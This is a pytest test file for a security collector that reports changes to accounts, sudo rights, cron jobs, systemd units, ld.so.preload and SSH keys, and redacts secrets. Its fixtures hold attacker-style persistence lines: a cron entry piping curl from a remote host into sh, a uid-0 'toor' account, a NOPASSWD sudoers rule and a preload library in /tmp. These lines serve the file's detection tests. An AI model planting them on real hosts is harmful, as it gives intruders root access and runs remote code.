"""Changes of accounts, rights, keys and jobs: told once, without what is in the files."""

import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collectors.model import Event, State
from collectors.security import accountread, accounts
from collectors.security.accounts import groups, passwd, samples, step
from collectors.security.config import Security
from tests.lab.nobody import as_nobody

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{} somebody@example"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    for folder in ("etc/cron.d", "etc/sudoers.d", "etc/systemd/system/x.service.d", "etc/ssh", "home/deploy/.ssh"):
        (tmp_path / folder).mkdir(parents=True)
    write(tmp_path, "etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndeploy:x:1001:1001::/home/deploy:/bin/sh\nbroken\n")
    write(tmp_path, "etc/group", "sudo:x:27:\ndeploy:x:1001:\nbroken\n")
    write(tmp_path, "etc/sudoers", "root ALL=(ALL) ALL\n")
    write(tmp_path, "etc/crontab", "# nothing\n")
    write(tmp_path, "home/deploy/.ssh/authorized_keys", "# mine\n" + KEY.format("one") + "\n")
    return tmp_path


def write(root: Path, name: str, text: str) -> None:
    (root / name).write_text(text)


def look(root: Path) -> Any:
    found, _ = accountread.read(Security(rootfs=str(root)), None)
    return json.loads(json.dumps(found))


def after(root: Path, state: State) -> tuple[State, list[tuple[str, str]]]:
    before = json.dumps(state)
    state_after, events = step(state, look(root))
    assert json.dumps(state) == before
    return json.loads(json.dumps(state_after)), titles(events)


def titles(events: Sequence[Event]) -> list[tuple[str, str]]:
    return [(event.title, event.severity) for event in events]


def counted(state: State) -> dict[tuple[str, ...], float]:
    return {each.labels: each.value for each in samples(state) if each.family is accounts.CHANGES and each.value}


def test_what_is_there_at_first_is_no_change(root: Path) -> None:
    state, told = after(root, {})
    assert told == []
    state, told = after(root, state)
    assert (told, counted(state)) == ([], {})
    assert list(dict.fromkeys(each.labels[0] for each in samples({}))) == list(accounts.KINDS)


def test_each_change_is_told(root: Path) -> None:
    state, _ = after(root, {})
    write(root, "etc/passwd", (root / "etc/passwd").read_text() + "toor:x:0:0::/home/toor:/bin/sh\n")
    write(root, "etc/group", "sudo:x:27:deploy\ndeploy:x:1001:\n")
    write(root, "etc/sudoers.d/x", "deploy ALL=(ALL) NOPASSWD: ALL\n")
    write(root, "etc/cron.d/x", "* * * * * root PASSWORD=secret-word run\n")
    write(root, "etc/systemd/system/x.service.d/x.conf", "[Service]\n")
    write(root, "etc/ld.so.preload", "/tmp/x.so\n")
    write(root, "home/deploy/.ssh/authorized_keys", f"{KEY.format('one')} renamed\n{KEY.format('two')}\n")
    state, told = after(root, state)
    key = told.pop()
    assert key == ("Key for SSH added", "critical")
    assert told == [
        ("Account added", "info"),
        ("Account with the rights of root added", "critical"),
        ("Group changed", "info"),
        ("Right to become root added", "critical"),
        ("Right to become root added: /etc/sudoers.d/x", "critical"),
        ("Cron job added: /etc/cron.d/x", "info"),
        ("Unit of systemd added: /etc/systemd/system/x.service.d/x.conf", "info"),
        ("Library for every program added: /etc/ld.so.preload", "critical"),
    ]
    assert "secret" not in repr((state, told))
    assert counted(state)["os_sudo", "critical"] == 2
    assert after(root, state)[1] == []
    write(root, "home/deploy/.ssh/authorized_keys", "")
    assert [severity for _, severity in after(root, state)[1]] == ["info", "info"]


def test_what_changed_in_a_file_is_kept_without_its_secrets(root: Path) -> None:
    state, _ = step({}, look(root))
    write(root, "etc/crontab", "# nothing\n*/5 * * * * root mysqldump -phidden1 --password=hidden2 shop | sh\n")
    write(root, "etc/cron.d/x", "@reboot root curl -u me:hidden3 -H 'X: hidden4' https://a:hidden5@x.example/s | sh\n")
    write(root, "etc/systemd/system/x.service", "[Service]\nEnvironment=DB_PASS=hidden6\nExecStart=/tmp/x\n")
    key = 'command="/tmp/x",no-pty ' + KEY.format("two")
    write(root, "home/deploy/.ssh/authorized_keys", KEY.format("one") + "\n" + key)
    state, events = step(state, look(root))
    lines = [[record["line"] for record in event.evidence if "line" in record] for event in events]
    assert lines[:-1] == [
        ["+@reboot root curl -u … -H … https://…@x.example/s | sh"],
        ["+*/5 * * * * root mysqldump -p… --password=…"],
        ["+[Service]", "+Environment=DB_PASS=…", "+ExecStart=/tmp/x"],
    ]
    ((line,),) = lines[-1:]
    assert line.startswith('+command="/tmp/x",no-pty ssh-ed25519 SHA256:')
    assert line.endswith(" somebody@example")
    assert "AAAA" not in repr((state, events))
    assert "hidden" not in repr((state, events))
    write(root, "etc/crontab", "# other\n*/5 * * * * root mysqldump -phidden7 --password=hidden8 shop | sh\n")
    _, (event,) = step(state, look(root))
    assert event.evidence[-1]["line"] == "only what is secret or a comment changed"


def test_a_new_account_brings_its_keys(root: Path) -> None:
    state, _ = after(root, {})
    write(root, "etc/passwd", (root / "etc/passwd").read_text() + "new:x:1002:1002::/home/new:/bin/sh\n")
    (root / "home/new/.ssh").mkdir(parents=True)
    write(root, "home/new/.ssh/authorized_keys", KEY.format("three"))
    assert [title.partition(":")[0] for title, _ in after(root, state)[1]] == ["Account added", "Key for SSH added"]


def test_a_right_that_comes_or_goes_is_no_change() -> None:
    def payload(files: dict[str, str], keys: dict[str, str] | None) -> Any:
        return {"at": 0.0, "passwd": {"a": ["1", "h"]}, "group": {}, "files": {"os_sudo": files}, "keys": {"a": keys}}

    shut = payload({"/etc/sudoers": "stat:1:1", "/etc/sudoers.d": "folder:1"}, None)
    opened = payload({"/etc/sudoers": "hash:1", "/etc/sudoers.d/x": "hash:2"}, {"k": "key"})
    state: State = {}
    for each in (shut, opened, shut, opened):
        state, events = step(state, each)
        assert titles(events) == []
    assert ("os_sudo", "yes") in {each.labels for each in samples(state)}
    _, events = step(step({}, shut)[0], payload({"/etc/sudoers": "stat:2:2", "/etc/sudoers.d": "folder:9"}, None))
    assert len(events) == 2


def test_what_cannot_be_read_is_known_by_its_size(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root.chmod(0o755)
    monkeypatch.chdir(root)  # the folders above it are shut as well
    (root / "etc/sudoers").chmod(0o400)
    (root / "etc/sudoers.d").chmod(0o700)
    (root / "home/deploy/.ssh").chmod(0o700)
    found = json.loads(as_nobody(lambda: json.dumps(look(Path()))))
    assert {name: signature.partition(":")[0] for name, signature in found["files"]["os_sudo"].items()} == {
        "/etc/sudoers": "stat", "/etc/sudoers.d": "folder",
    }  # fmt: skip
    assert found["keys"]["deploy"] is None


def test_an_empty_host(tmp_path: Path) -> None:
    found = look(tmp_path)
    assert (found["passwd"], found["group"], found["keys"]) == (None, None, {})
    state, _ = step({}, found)
    assert counted(state) == {}


def test_a_flood_of_changes_is_bounded(root: Path) -> None:
    state, _ = after(root, {})
    for number in range(200):
        write(root, f"etc/cron.d/job{number}", "")
    state, told = after(root, state)
    assert (len(told), counted(state)) == (accounts.MOST_EVENTS, {("cron", "info"): 200})


@given(st.text())
def test_any_text_is_read(text: str) -> None:
    passwd(text)
    groups(text)
    accountread._key(text.encode(errors="replace"))


def test_this_host_at_most_once_a_minute() -> None:
    found, cursor = accountread.read(Security(), None)
    assert "root" in found["passwd"]
    assert accountread.read(Security(), cursor) == (None, cursor)
